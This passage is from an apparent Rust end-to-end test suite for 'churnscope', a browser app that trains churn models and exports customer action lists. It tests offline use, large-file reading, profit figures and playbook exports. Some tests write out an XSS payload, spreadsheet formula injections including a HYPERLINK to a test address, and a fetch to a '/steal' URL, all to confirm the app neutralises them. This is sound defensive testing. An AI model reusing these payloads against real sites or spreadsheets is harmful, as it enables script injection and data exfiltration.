            "const e = document.querySelector('[data-testid=error-message]'); return e ? e.textContent : null;",
            |v| v.as_str().is_some_and(|t| t.starts_with(file)),
        )
        .await;
        let message = message.as_str().unwrap_or_default();
        assert!(message.contains(expected), "{file}: {message}");
        // The page is still alive and usable: the upload controls respond.
        let enabled = c
            .execute(
                "return !document.querySelector('[data-testid=sample-button]').disabled;",
                vec![],
            )
            .await
            .expect("page responds");
        assert_eq!(enabled, true, "{file}: controls usable after the error");
    }
    // After all those errors the app still works: the sample loads again.
    click(c, "sample-button").await;
    wait_for(
        c,
        "the sample after the errors",
        "const e = document.querySelector('[data-testid=row-count]'); return e ? e.textContent : null;",
        |v| v == "5000",
    )
    .await;
    s.audit_network().await;
    s.close().await;
}

#[tokio::test]
#[ignore = "needs the built site and chromedriver: run scripts/test.sh"]
async fn ecommerce_synonym_levels_are_merged_when_the_user_confirms() {
    let s = open_app().await;
    let c = &s.client;
    upload(c, &shared_dataset("E_Commerce_Dataset.csv")).await;
    assert_eq!(text_of(c, "row-count").await, "5630");
    c.execute(
        r#"[...document.querySelectorAll('[data-testid=profile-link]')]
             .find(b => b.textContent === 'PreferredPaymentMode').click(); return true;"#,
        vec![],
    )
    .await
    .expect("open the payment profile");
    let suggestions = wait_for(
        c,
        "merge suggestions",
        "return [...document.querySelectorAll('[data-testid=merge-suggestion]')].map(e => e.textContent);",
        |v| v.as_array().is_some_and(|a| !a.is_empty()),
    )
    .await
    .to_string();
    assert!(
        suggestions.contains("'CC' → 'Credit Card'"),
        "{suggestions}"
    );
    assert!(
        suggestions.contains("'COD' → 'Cash on Delivery'"),
        "{suggestions}"
    );
    click(c, "merge-all-button").await;
    // pandas 3.1.1 value_counts of PreferredPaymentMode: Credit Card 1501 + CC 273 = 1774,
    // Cash on Delivery 149 + COD 365 = 514.
    let bars = wait_for(
        c,
        "the merged levels",
        r#"return Object.fromEntries([...document.querySelectorAll('[data-testid=profile-bar]')]
             .map(r => [r.children[0].textContent, r.children[1].textContent]));"#,
        |v| v.get("CC").is_none() && v.get("Credit Card").is_some(),
    )
    .await;
    assert_eq!(bars["Credit Card"], "1774");
    assert_eq!(bars["Cash on Delivery"], "514");
    assert!(bars.get("COD").is_none());
    let remaining = c
        .execute(
            "return document.querySelectorAll('[data-testid=merge-suggestion]').length;",
            vec![],
        )
        .await
        .expect("count suggestions");
    assert_eq!(remaining, 0);
    // The merged table still trains.
    click(c, "train-button").await;
    let auc = number(c, "metric-roc-auc").await;
    // baselines.md: logistic regression reaches 0.886 on the reference split.
    assert!((auc - 0.886).abs() < 0.03, "e-commerce AUC {auc}");

    // A file too big for the memory the tab allows is refused before it is read. The limit
    // is lowered to 1 MB here; the Telco file (977,501 bytes) needs about 4 MB.
    c.goto(&format!("{}/?max-file-mb=1", s.server.origin))
        .await
        .expect("reload with a low limit");
    upload(c, &shared_dataset("WA_Fn-UseC_-Telco-Customer-Churn.csv")).await;
    let message = text_of(c, "error-message").await;
    assert!(
        message.contains("needs about 4 MB of memory") && message.contains("command line"),
        "{message}"
    );
    s.audit_network().await;
    s.close().await;
}

/// Writes a CSV of `rows` rows x 30 numeric columns and a churn flag (about 300 bytes a
/// row), deterministic: a linear congruential sequence (Knuth's MMIX constants).
fn write_big_csv(path: &std::path::Path, rows: usize) {
    use std::io::Write;
    let mut out = std::io::BufWriter::new(std::fs::File::create(path).expect("create big csv"));
    let names: Vec<String> = (0..30).map(|i| format!("f{i}")).collect();
    writeln!(out, "{},churn", names.join(",")).expect("write");
    let mut state: u64 = 20241101;
    let mut next = || {
        state = state
            .wrapping_mul(6364136223846793005)
            .wrapping_add(1442695040888963407);
        (state >> 11) as f64 / (1u64 << 53) as f64
    };
    for _ in 0..rows {
        let mut line = String::with_capacity(320);
        for _ in 0..30 {
            line.push_str(&format!("{:.6},", next() * 8.0 - 4.0));
        }
        line.push_str(if next() < 0.2 { "1" } else { "0" });
        writeln!(out, "{line}").expect("write");
    }
}

#[tokio::test]
#[ignore = "needs the built site and chromedriver: run scripts/test.sh"]
async fn big_files_are_read_in_a_worker_with_progress_and_can_be_cancelled() {
    // 400,000 rows, about 115 MB: long enough to watch, short enough for CI.
    let rows = 400_000;
    let big = std::env::temp_dir().join(format!("churnscope-e2e-big-{}.csv", std::process::id()));
    write_big_csv(&big, rows);
    let s = open_app().await;
    let c = &s.client;
    click(c, "sample-button").await;
    assert_eq!(text_of(c, "row-count").await, "5000");
    // Counts the frames the page paints: they only advance while its main thread is free.
    c.execute(
        "window.__frames = 0; (function tick() { window.__frames++; requestAnimationFrame(tick); })(); return true;",
        vec![],
    )
    .await
    .expect("frame counter");

    // Cancel: right after the read starts (long before 115 MB can be read), the reader is
    // stopped and the sample stays loaded, untouched.
    upload(c, &big).await;
    click(c, "cancel-button").await;
    let notice = text_of(c, "notice").await;
    assert!(notice.contains("Reading stopped"), "{notice}");
    let gone = c
        .execute(
            "return document.querySelector('[data-testid=progress]') === null;",
            vec![],
        )
        .await
        .expect("script");
    assert_eq!(gone, Value::Bool(true), "no progress bar after cancel");
    assert_eq!(
        text_of(c, "row-count").await,
        "5000",
        "the sample is still loaded"
    );
    assert_eq!(text_of(c, "file-encoding").await, "UTF-8");

    // A full read: the progress bar moves and the page keeps painting while the worker reads.
    upload(c, &big).await;
    let mut fractions: Vec<f64> = Vec::new();
    let mut frames_while_reading: Vec<f64> = Vec::new();
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(300);
    loop {
        let v = c
            .execute(
                r#"const bar = document.querySelector('[data-testid=progress-bar]');
                   const rows = document.querySelector('[data-testid=row-count]');
                   return [bar ? bar.value : null, window.__frames, rows ? rows.textContent : null];"#,
                vec![],
            )
            .await
            .expect("poll");
        if let Some(f) = v[0].as_f64() {
            if f > 0.0 && f < 1.0 && !fractions.contains(&f) {
                fractions.push(f);
            }
            frames_while_reading.push(v[1].as_f64().unwrap_or(0.0));
        }
        if v[2].as_str() == Some(&rows.to_string()) {
            break;
        }
        assert!(
            std::time::Instant::now() < deadline,
            "no table after 5 minutes"
        );
        tokio::time::sleep(std::time::Duration::from_millis(40)).await;
    }
    assert!(
        fractions.len() >= 2,
        "the progress bar should show at least two steps between 0 and 1, saw {fractions:?}"
    );
    let painted = frames_while_reading.last().copied().unwrap_or(0.0)
        - frames_while_reading.first().copied().unwrap_or(0.0);
    assert!(
        painted >= 2.0,
        "the page should keep painting while the worker reads (frames seen: {frames_while_reading:?})"
    );
    assert_eq!(text_of(c, "column-count").await, "31");
    let notice_gone = c
        .execute(
            "return document.querySelector('[data-testid=notice]') === null;",
            vec![],
        )
        .await
        .expect("script");
    assert_eq!(
        notice_gone,
        Value::Bool(true),
        "a new read clears the old notice"
    );
    screenshot(c, "big-file-read.png").await;
    s.audit_network().await;
    let _ = std::fs::remove_file(&big);
    let urls = s.close().await;
    assert!(
        urls.iter().any(|u| u.ends_with("/worker_bg.wasm")),
        "the read should run in the worker, which fetches its own wasm: {urls:?}"
    );
}

/// Checks exactly the models in `keys` (logistic, gbdt, forest, mlp) in the model choice.
async fn choose_models(c: &Client, keys: &[&str]) {
    // Until the ticked boxes are exactly `keys`: the boxes show once a table is read, and a
    // click on a box the page has just redrawn is lost.
    let mut want: Vec<String> = keys.iter().map(|k| k.to_string()).collect();
    want.sort();
    wait_for(
        c,
        &format!("the models {keys:?} ticked"),
        &format!(
            r#"const want = {want:?};
               const boxes = [...document.querySelectorAll('[data-testid=model-choice] input[type=checkbox]')];
               for (const box of boxes) {{
                 const key = box.dataset.testid.replace('model-', '');
                 if (box.checked !== want.includes(key)) box.click();
               }}
               return boxes.filter(b => b.checked).map(b => b.dataset.testid.replace('model-', '')).sort();"#
        ),
        |v| *v == serde_json::json!(want),
    )
    .await;
}

/// Picks one model.
async fn choose_model(c: &Client, value: &str) {
    choose_models(c, &[value]).await;
}

/// Every file of the built site but the service worker itself: what it keeps a copy of
/// (scripts/precache.sh lists the same).
fn site_files(dir: &std::path::Path) -> usize {
    std::fs::read_dir(dir)
        .expect("dist")
        .flatten()
        .map(|e| {
            let path = e.path();
            if path.is_dir() {
                site_files(&path)
            } else {
                let name = e.file_name().to_string_lossy().to_string();
                usize::from(name != "sw.js" && !name.ends_with(".d.ts"))
            }
        })
        .sum()
}

#[tokio::test]
#[ignore = "needs the built site and chromedriver: run scripts/test.sh"]
async fn works_offline_after_the_first_visit_and_forgets_on_request() {
    let s = open_app().await;
    let c = &s.client;
    // First visit: the service worker installs and keeps a copy of every file of the site.
    let active = c
        .execute(
            "return navigator.serviceWorker.ready.then(r => !!r.active);",
            vec![],
        )
        .await
        .expect("service worker");
    assert_eq!(active, true);
    let expected = site_files(&s.server.root);
    wait_for(
        c,
        "the offline copy",
        "return caches.keys().then(async ks => ks.length === 1 ? (await (await caches.open(ks[0])).keys()).length : 0);",
        |v| v.as_u64() == Some(expected as u64),
    )
    .await;
    // The Content-Security-Policy is in force: an injected inline script does not run and a
    // request to another address is refused by the browser before it is sent.
    let csp = c
        .execute(
            r#"const meta = document.querySelector('meta[http-equiv=Content-Security-Policy]').content;
               const s = document.createElement('script'); s.textContent = 'window.__inline = 1';
               document.head.append(s);
               return fetch('http://198.51.100.7/steal?data=1').then(() => 'sent', e => 'refused: ' + e.message)
                 .then(r => [meta, typeof window.__inline, r]);"#,
            vec![],
        )
        .await
        .expect("probe the CSP");
    eprintln!("CSP probe: {csp}");
    let meta = csp[0].as_str().expect("meta");
    assert!(
        meta.contains("script-src 'self' 'wasm-unsafe-eval';")
            && meta.contains("connect-src 'self';"),
        "{meta}"
    );
    assert_eq!(csp[1], "undefined", "the inline script was blocked");
    assert!(
        csp[2].as_str().is_some_and(|r| r.starts_with("refused")),
        "{csp}"
    );
    // The network goes away: the server answers nothing from here on.
    s.server
        .offline
        .store(true, std::sync::atomic::Ordering::SeqCst);
    let served_before = s.server.requests.lock().expect("log").len();
    c.goto(&format!("{}/", s.server.origin))
        .await
        .expect("reload offline");
    click(c, "sample-button").await;
    assert_eq!(text_of(c, "row-count").await, "5000");
    click(c, "train-button").await;
    let auc = number(c, "metric-roc-auc").await;
    assert!(auc > 0.5, "trained offline: ROC AUC {auc}");
    // Acting and exporting work offline too: every customer scored, the list downloaded.
    let downloads = output_dir().join("downloads-offline");
    allow_downloads(c, &downloads).await;
    click(c, "score-customers").await;
    wait_for(
        c,
        "every customer scored offline",
        "const e = document.querySelector('[data-testid=action-count]'); return e ? e.textContent : null;",
        |v| v == "5,000",
    )
    .await;
    click(c, "download-csv").await;
    let csv = downloaded(
        &downloads,
        &format!("churn-action-list-sample_customers-{}.csv", today_utc()),
    )
    .await;
    assert_eq!(
        String::from_utf8_lossy(&csv).lines().count(),
        5001,
        "the whole list, offline"
    );
    let controlled = c
        .execute(
            "return navigator.serviceWorker.controller !== null;",
            vec![],
        )
        .await
        .expect("controller");
    assert_eq!(
        controlled, true,
        "the page was answered by the service worker"
    );
    assert_eq!(
        s.server.requests.lock().expect("log").len(),
        served_before,
        "nothing was served after going offline"
    );
    let dropped = s.server.dropped.lock().expect("log").clone();
    eprintln!("requests while offline (unanswered): {dropped:?}");
    assert!(
        dropped.iter().all(|r| r.contains("/sw.js")),
        "only the service worker's update check may try the network: {dropped:?}"
    );
    screenshot(c, "12-offline-trained.png").await;
    // Forget everything: the copy of the app and the service worker are removed.
    c.execute(
        "document.querySelector('[data-testid=privacy-panel]').open = true; return true;",
        vec![],
    )
    .await
    .expect("open the privacy panel");
    screenshot_of(c, "privacy-panel", "13-privacy-panel.png").await;
    click(c, "forget-everything").await;
    let result = text_of(c, "forget-result").await;
    assert!(
        result.contains("1 cached copy(ies) of the app and 1 service worker(s) removed"),
        "{result}"
    );
    let left = c
        .execute(
            "return Promise.all([caches.keys(), navigator.serviceWorker.getRegistrations()]).then(([k, r]) => [k.length, r.length]);",
            vec![],
        )
        .await
        .expect("what is left");
    assert_eq!(left, serde_json::json!([0, 0]));
    s.server
        .offline
        .store(false, std::sync::atomic::Ordering::SeqCst);
    s.close().await;
}

#[tokio::test]
#[ignore = "needs the built site and chromedriver: run scripts/test.sh"]
async fn hostile_column_names_and_cells_stay_text() {
    // A header and cells that would run script if the page ever put them into HTML.
    let evil_column = "<img src=x onerror=window.__xss=1>";
    let evil_level = "<img src=x onerror=window.__xss=2>";
    let mut csv = format!("customer_id,{evil_column},plan,spend,churn\n");
    for i in 0..120 {
        let plan = match i % 3 {
            0 => evil_level,
            1 => "<b>bold</b>",
            _ => "basic",
        };
        let churn = if (i * 7) % 5 < 2 { "yes" } else { "no" };
        // Every tenth id is a spreadsheet formula.
        let id = if i % 10 == 0 {
            format!("=c{i}")
        } else {
            format!("c{i}")
        };
        csv.push_str(&format!(
            "{id},{},{plan},{},{churn}\n",
            i % 17,
            (i * 13) % 50
        ));
    }
    let path = std::env::temp_dir().join(format!("churnscope-hostile-{}.csv", std::process::id()));
    std::fs::write(&path, csv).expect("write the file");
    let s = open_app().await;
    let c = &s.client;
    upload(c, &path).await;
    assert_eq!(text_of(c, "row-count").await, "120");
    let names = c
        .execute(
            "return [...document.querySelectorAll('[data-testid=column-row]')].map(r => r.children[0].textContent);",
            vec![],
        )
        .await
        .expect("column names");
    assert!(
        names
            .as_array()
            .is_some_and(|a| a.iter().any(|n| n == evil_column)),
        "the header is shown as the text it is: {names}"
    );
    // Its profile lists the hostile level as text too.
    c.execute(
        r#"[...document.querySelectorAll('[data-testid=profile-link]')]
             .find(b => b.textContent === 'plan').click(); return true;"#,
        vec![],
    )
    .await
    .expect("open the plan profile");
    wait_for(
        c,
        "the plan profile",
        "return [...document.querySelectorAll('[data-testid=profile-bar]')].map(r => r.children[0].textContent);",
        |v| v.as_array().is_some_and(|a| a.iter().any(|l| l == evil_level)),
    )
    .await;
    click(c, "train-button").await;
    wait_for(
        c,
        "the riskiest customers with their reasons",
        "return document.querySelectorAll('[data-testid=risky-row]').length;",
        |v| v.as_u64().is_some_and(|n| n > 0),
    )
    .await;
    let page = c
        .execute(
            "return [typeof window.__xss, document.querySelectorAll('img').length, document.querySelectorAll('b').length, document.body.textContent.includes('<b>bold</b>') || document.body.textContent.includes('<img src=x')];",
            vec![],
        )
        .await
        .expect("inspect the page");
    assert_eq!(
        page,
        serde_json::json!(["undefined", 0, 0, true]),
        "no script ran, no element was made from the data, and it reads as text"
    );
    screenshot(c, "14-hostile-content.png").await;
    // The action list and its download: names and levels as text, formula ids defused.
    let downloads = output_dir().join("downloads-hostile");
    allow_downloads(c, &downloads).await;
    click(c, "score-customers").await;
    wait_for(
        c,
        "every customer scored",
        "const e = document.querySelector('[data-testid=action-count]'); return e ? e.textContent : null;",
        |v| v == "120",
    )
    .await;
    click(c, "download-csv").await;
    let csv = String::from_utf8(
        downloaded(
            &downloads,
            &format!(
                "churn-action-list-churnscope-hostile-{}-{}.csv",
                std::process::id(),
                today_utc()
            ),
        )
        .await,
    )
    .expect("utf-8");
    assert!(
        csv.contains("\r\n'=c0,") || csv.contains("\r\n'=c"),
        "formula ids start with an apostrophe"
    );
    assert!(
        !csv.contains("\r\n=c"),
        "no line starts with a live formula"
    );
    // The report: hostile text everywhere, no element made from it, no script run.
    click(c, "download-report").await;
    let report = downloaded(
        &downloads,
        &format!(
            "churn-report-churnscope-hostile-{}-{}.html",
            std::process::id(),
            today_utc()
        ),
    )
    .await;
    let report_path = downloads.join("report.html");
    std::fs::write(&report_path, &report).expect("keep the report");
    let _ = std::fs::remove_file(&path);
    s.audit_network().await;
    c.goto(&format!("file://{}", report_path.display()))
        .await
        .expect("open the report");
    let opened = c
        .execute(
            "return [typeof window.__xss, document.querySelectorAll('img, b, script').length, \
             document.body.textContent.includes('<img src=x onerror=window.__xss=1>'), \
             document.querySelectorAll('svg').length > 5];",
            vec![],
        )
        .await
        .expect("inspect the report");
    assert_eq!(
        opened,
        serde_json::json!(["undefined", 0, true, true]),
        "the report shows the hostile names as text and runs nothing"
    );
    s.close().await;
}

#[tokio::test]
#[ignore = "needs the built site and chromedriver: run scripts/test.sh"]
async fn a_panic_in_the_page_shows_a_message_instead_of_a_dead_page() {
    let s = open_app().await;
    let c = &s.client;
    // ?panic-test=1 makes the page panic right after it starts (src/ui/panic.rs).
    c.goto(&format!("{}/?panic-test=1", s.server.origin))
        .await
        .expect("open with a test panic");
    let message = text_of(c, "panic-message").await;
    assert!(
        message.contains("Something went wrong inside churnscope")
            && message.contains("Your file never left this browser")
            && message.contains("a test panic asked for by ?panic-test=1"),
        "{message}"
    );
    screenshot(c, "15-panic-message.png").await;
    // The console has the panic too (console_error_panic_hook), for a bug report.
    let console = console_messages(c).await;
    assert!(
        console.iter().any(|m| m.contains("a test panic")),
        "{console:?}"
    );
    s.close().await;
}

/// A money figure as the page prints it (`12,345`, `−40`).
async fn money_of(client: &Client, testid: &str) -> f64 {
    let text = text_of(client, testid).await;
    text.replace(',', "")
        .replace('−', "-")
        .trim()
        .parse()
        .unwrap_or_else(|_| panic!("{testid} holds '{text}', not an amount"))
}

/// Waits until the element `testid`'s text differs from `before`, and returns it.
async fn changed_text(client: &Client, testid: &str, before: &str) -> String {
    let script = format!(
        "const e = document.querySelector('[data-testid=\"{testid}\"]'); return e ? e.textContent : null;"
    );
    wait_for(client, &format!("{testid} to change"), &script, |v| {
        v.as_str().is_some_and(|s| s != before)
    })
    .await
    .as_str()
    .expect("text")
    .to_string()
}

/// Clicks the `i`-th element with `data-testid`.
async fn click_nth(client: &Client, testid: &str, i: usize) {
    let ok = client
        .execute(
            "const e = document.querySelectorAll(`[data-testid=\"${arguments[0]}\"]`)[arguments[1]]; \
             if (!e) return false; e.click(); return true;",
            vec![serde_json::json!(testid), serde_json::json!(i)],
        )
        .await
        .expect("click");
    assert_eq!(ok, true, "no {testid} number {i}");
}

/// The hostile action a playbook rule is given: a spreadsheet formula.
const FORMULA_ACTION: &str = "=HYPERLINK(\"http://198.51.100.7/x\",\"call\")";

/// Whether the button with `data-testid` is disabled.
async fn button_disabled(client: &Client, testid: &str) -> bool {
    client
        .execute(
            "return document.querySelector(`[data-testid=${arguments[0]}]`).disabled;",
            vec![Value::from(testid)],
        )
        .await
        .expect("button")
        == Value::Bool(true)
}

/// The customer in the first row of the action list's page.
async fn first_action_id(client: &Client) -> String {
    client
        .execute(
            "return document.querySelector('[data-testid=action-row] [data-col=customer]').textContent;",
            vec![],
        )
        .await
        .expect("first row")
        .as_str()
        .expect("an id")
        .to_string()
}

/// Rows on the action list's page.
async fn action_rows(client: &Client) -> u64 {
    client
        .execute(
            "return document.querySelectorAll('[data-testid=action-row]').length;",
            vec![],
        )
        .await
        .expect("rows")
        .as_u64()
        .expect("a count")
}

#[tokio::test]
#[ignore = "needs the built site and chromedriver: run scripts/test.sh"]
async fn sample_actions_profit_playbook_exports_and_an_offline_report() {
    let s = open_app().await;
    let c = &s.client;
    let downloads = output_dir().join("downloads");
    allow_downloads(c, &downloads).await;
    click(c, "sample-button").await;
    assert_eq!(text_of(c, "row-count").await, "5000");
    wait_for(
        c,
        "the detected target",
        "return document.querySelector('[data-testid=target-select]')?.value ?? null;",
        |v| v.as_str() == Some("churned"),
    )
    .await;
    click(c, "train-button").await;
    text_of(c, "profit-net").await;

    // The merchant's assumptions: a kept customer is worth 250, a contact costs 5 and keeps
    // 40% of the churners it reaches.
    set_field(c, "value-input", "250").await;
    set_field(c, "success-input", "40").await;
    let before = text_of(c, "profit-assumptions").await;
    set_field(c, "cost-input", "5").await;
    let assumptions = changed_text(c, "profit-assumptions", &before).await;
    assert!(
        assumptions.contains("worth 250")
            && assumptions.contains("costs 5;")
            && assumptions.contains("keeps 40%")
            && assumptions.contains("1,000 test customers")
            && assumptions.contains("5,000 customers in the file"),
        "{assumptions}"
    );
    let contacted = money_of(c, "profit-contacted").await;
    let threshold: f64 = number(c, "profit-threshold").await;
    let (retained, cost, net) = (
        money_of(c, "profit-retained").await,
        money_of(c, "profit-cost").await,
        money_of(c, "profit-net").await,
    );
    // The figures add up (each is rounded to a whole unit on the page): the cost is the
    // contacts times 5, and the net gain what is kept minus the cost.
    assert!(
        (cost - contacted * 5.0).abs() <= 3.0,
        "{cost} vs {contacted} × 5"
    );
    assert!(
        (retained - cost - net).abs() <= 1.0,
        "{retained} − {cost} vs {net}"
    );
    assert!(
        net > 0.0 && contacted > 0.0,
        "a campaign pays at this cost: {net}"
    );
    // The engine computes the same plan natively (the CLI on the same file, split and seed).
    let cli = std::process::Command::new(cli_binary())
        .args([
            "act",
            "public/sample_customers.csv",
            "--value",
            "250",
            "--cost",
            "5",
            "--success",
            "0.4",
            "--format",
            "json",
        ])
        .current_dir(repo())
        .output()
        .expect("run the CLI");
    let cli: Value = serde_json::from_slice(&cli.stdout)
        .unwrap_or_else(|e| panic!("CLI json: {e}: {}", String::from_utf8_lossy(&cli.stderr)));
    assert_eq!(
        contacted,
        cli["profit"]["contacted"]
            .as_f64()
            .expect("contacted")
            .round()
    );
    assert_eq!(
        format!("{threshold:.3}"),
        format!(
            "{:.3}",
            cli["profit"]["threshold"].as_f64().expect("threshold")
        )
    );
    assert_eq!(net, cli["profit"]["net"].as_f64().expect("net").round());
    screenshot_of(c, "actions", "16-actions.png").await;

    // A dearer contact: the optimum moves to fewer, riskier customers.
    let shown = text_of(c, "profit-contacted").await;
    set_field(c, "cost-input", "40").await;
    let fewer: f64 = changed_text(c, "profit-contacted", &shown)
        .await
        .replace(',', "")
        .parse()
        .expect("a count");
    let higher: f64 = number(c, "profit-threshold").await;
    assert!(fewer < contacted, "cost 40: {fewer} vs cost 5: {contacted}");
    assert!(
        higher > threshold,
        "cost 40: {higher} vs cost 5: {threshold}"
    );
    // A contact capacity caps the plan.
    set_field(c, "cost-input", "5").await;
    let capacity = (contacted / 2.0).floor();
    set_field(c, "capacity-input", &format!("{capacity}")).await;
    let capped: f64 = changed_text(c, "profit-contacted", &shown)
        .await
        .replace(',', "")
        .parse()
        .expect("a count");
    assert!(
        capped <= capacity && capped > 0.0,
        "{capped} within {capacity}"
    );
    set_field(c, "capacity-input", "").await;
    // The chosen threshold becomes the model's operating threshold.
    let best = text_of(c, "profit-threshold").await;
    click(c, "profit-apply").await;
    assert_eq!(text_of(c, "threshold-value").await, best);

    // Only amounts are offered as a customer's value: not the id, the target or a 0/1 flag,
    // and the money column first (issue 14, defect 10).
    let options = c
        .execute(
            "return [...document.querySelectorAll('[data-testid=value-mode] option')].map(o => o.value);",
            vec![],
        )
        .await
        .expect("value options");
    let options: Vec<&str> = options
        .as_array()
        .expect("options")
        .iter()
        .filter_map(Value::as_str)
        .collect();
    assert_eq!(options.get(1), Some(&"spend_last_90d"), "{options:?}");
    for never in ["customer_id", "churned"] {
        assert!(!options.contains(&never), "{never} offered: {options:?}");
    }

    // Before scoring the tier table shows only the test customers: no second column that
    // repeats their counts (issue 14, defect 13).
    let columns = c
        .execute(
            "return [[...document.querySelectorAll('[data-testid=tier-table] thead th')].map(t => t.textContent), \
             document.querySelectorAll('[data-testid=tier-row] [data-col=customers]').length];",
            vec![],
        )
        .await
        .expect("tier table");
    assert_eq!(
        columns,
        serde_json::json!([
            [
                "Tier",
                "Test customers",
                "Churn rate (test)",
                "Main drivers"
            ],
            0
        ])
    );

    // Tiers: three, covering the 1,000 test customers; a higher cut-off empties the top.
    let tiers = c
        .execute(
            "return [...document.querySelectorAll('[data-testid=tier-row]')].map(r => \
             [r.dataset.tier, +r.querySelector('[data-col=test-customers]').textContent.replace(/,/g, '')]);",
            vec![],
        )
        .await
        .expect("tiers");
    let tiers = tiers.as_array().expect("rows").clone();
    assert_eq!(tiers.len(), 3);
    let total: f64 = tiers.iter().map(|t| t[1].as_f64().expect("count")).sum();
    assert_eq!(total, 1000.0);
    // Default cut-offs are the 80th and 50th percentiles of the test scores: a fifth high.
    assert!(
        (tiers[0][1].as_f64().expect("high") - 200.0).abs() <= 2.0,
        "{tiers:?}"
    );

    // The playbook: remove every default rule, then one rule whose action is a formula.
    while c
        .execute(
            "return document.querySelectorAll('[data-testid=rule-remove]').length;",
            vec![],
        )
        .await
        .expect("rules")
        .as_u64()
        != Some(0)
    {
        click_nth(c, "rule-remove", 0).await;
    }
    click(c, "rule-add").await;
    set_field(c, "rule-columns", "tenure|days since").await;
    set_field(c, "rule-action", FORMULA_ACTION).await;
    // Saved as JSON, the default restored, then the saved one loaded back.
    click(c, "playbook-save").await;
    let saved = downloaded(&downloads, "churnscope-playbook.json").await;
    let book: Value = serde_json::from_slice(&saved).expect("a JSON playbook");
    assert_eq!(
        book["rules"],
        serde_json::json!([{ "columns": "tenure|days since", "action": FORMULA_ACTION }])
    );
    let rules = "return document.querySelectorAll('[data-testid=playbook-rule]').length;";
    click(c, "playbook-reset").await;
    // Six rules and the onboarding rule for brand-new customers (issue 14, defect 12).
    wait_for(c, "the default playbook", rules, |v| v == 7).await;
    let saved_path = downloads.join("playbook.json");
    std::fs::write(&saved_path, &saved).expect("keep the playbook");
    let broken_path = downloads.join("broken.json");
    std::fs::write(&broken_path, "{\n \"rules\": [\n  {\"columns\": 3}]}").expect("write");
    upload_to(c, "playbook-file", &broken_path).await;
    let message = text_of(c, "playbook-file-error").await;
    // In plain words with the place (issue 14, defect 13), not serde's "invalid type".
    assert_eq!(
        message,
        "broken.json: line 3, column 15: the rule's `columns` must be text in quotes, found the number 3"
    );
    upload_to(c, "playbook-file", &saved_path).await;
    wait_for(c, "the saved playbook", rules, |v| v == 1).await;

    // Score every customer: the action list has all 5,000.
    click(c, "score-customers").await;
    wait_for(
        c,
        "every customer scored",
        "const e = document.querySelector('[data-testid=action-count]'); return e ? e.textContent : null;",
        |v| v == "5,000",
    )
    .await;
    let drivers = c
        .execute(
            "return document.querySelector('[data-testid=tier-row][data-tier=high] [data-col=drivers]').textContent;",
            vec![],
        )
        .await
        .expect("drivers");
    assert!(
        drivers.as_str().is_some_and(|d| d.contains('(')),
        "the high tier's drivers: {drivers}"
    );
    let first_rows = c
        .execute(
            "return [...document.querySelectorAll('[data-testid=action-row]')].slice(0, 2).map(r => \
             [...r.querySelectorAll('td')].map(td => td.textContent));",
            vec![],
        )
        .await
        .expect("rows");
    eprintln!("action list starts {first_rows}");
    // Riskiest first.
    let p0: f64 = first_rows[0][1].as_str().expect("p").parse().expect("p");
    let p1: f64 = first_rows[1][1].as_str().expect("p").parse().expect("p");
    assert!(p0 >= p1);
    screenshot_of(c, "action-table", "17-action-list.png").await;
    // Once scored, the tiers count the whole file.
    let whole = c
        .execute(
            "return [...document.querySelectorAll('[data-testid=tier-row] [data-col=customers]')] \
             .reduce((n, td) => n + +td.textContent.replace(/,/g, ''), 0);",
            vec![],
        )
        .await
        .expect("tier counts");
    assert_eq!(whole, 5000, "the tiers hold every customer of the file");

    // Paging through the whole list (issue 14, defect 1: both buttons were always disabled).
    // 5,000 customers at 50 a page: 100 pages.
    assert_eq!(text_of(c, "action-page").await.trim(), "page 1 of 100");
    assert!(button_disabled(c, "action-page-prev").await);
    let first_id = first_action_id(c).await;
    click(c, "action-page-next").await;
    assert_eq!(text_of(c, "action-page").await.trim(), "page 2 of 100");
    assert_ne!(first_action_id(c).await, first_id);
    click(c, "action-page-last").await;
    assert_eq!(text_of(c, "action-page").await.trim(), "page 100 of 100");
    assert!(button_disabled(c, "action-page-next").await);
    assert_eq!(action_rows(c).await, 50);
    click(c, "action-page-prev").await;
    assert_eq!(text_of(c, "action-page").await.trim(), "page 99 of 100");
    click(c, "action-page-first").await;
    assert_eq!(first_action_id(c).await, first_id);
    // The high tier, page by page with Next to the end: every customer seen once.
    set_field(c, "action-tier-filter", "high").await;
    let high_count: usize = changed_text(c, "action-count", "5,000")
        .await
        .replace(',', "")
        .parse()
        .expect("count");
    let pages = high_count.div_ceil(50);
    let mut seen = std::collections::BTreeSet::new();
    for page in 1..=pages {
        assert_eq!(
            text_of(c, "action-page").await.trim(),
            format!("page {page} of {pages}")
        );
        let ids = c
            .execute(
                "return [...document.querySelectorAll('[data-testid=action-row] [data-col=customer]')].map(td => td.textContent);",
                vec![],
            )
            .await
            .expect("ids");
        for id in ids.as_array().expect("ids") {
            assert!(
                seen.insert(id.as_str().expect("id").to_string()),
                "{id} twice"
            );
        }
        if page < pages {
            click(c, "action-page-next").await;
        }
    }
    assert!(button_disabled(c, "action-page-next").await);
    assert_eq!(
        seen.len(),
        high_count,
        "every high-tier customer on some page"
    );
    screenshot_of(c, "action-table", "17b-action-list-last-page.png").await;
    set_field(c, "action-tier-filter", "").await;
    assert_eq!(text_of(c, "action-page").await.trim(), "page 1 of 100");

    // Only the customers given the formula action: download them as CSV.
    set_field(c, "action-action-filter", FORMULA_ACTION).await;
    let count: usize = changed_text(c, "action-count", "5,000")
        .await
        .replace(',', "")
        .parse()
        .expect("count");
    assert!(count > 0);
    click(c, "download-csv").await;
    // Named after the data file and the day (issue 14, defect 13).
    let today = today_utc();
    let csv = downloaded(
        &downloads,
        &format!("churn-action-list-sample_customers-{today}.csv"),
    )
    .await;
    let csv = String::from_utf8(csv).expect("utf-8");
    let csv = csv.strip_prefix('\u{feff}').expect("a BOM for Excel");
    let lines: Vec<&str> = csv.split("\r\n").filter(|l| !l.is_empty()).collect();
    assert_eq!(
        lines[0],
        "customer,churn probability,tier,reason 1,reason 2,reason 3,suggested action,expected value of contacting"
    );
    assert_eq!(lines.len(), count + 1, "a header and every customer shown");
    // The formula is neutralised: quoted (it holds commas and quotes) and led by an
    // apostrophe, so a spreadsheet shows it as text.
    let escaped = "\"'=HYPERLINK(\"\"http://198.51.100.7/x\"\",\"\"call\"\")\"";
    assert!(
        lines[1..].iter().all(|l| l.contains(escaped)),
        "{}",
        lines[1]
    );
    assert!(
        lines[1].starts_with("C"),
        "customer ids come first: {}",
        lines[1]
    );

    // The high tier as Excel: a workbook with the same rows.
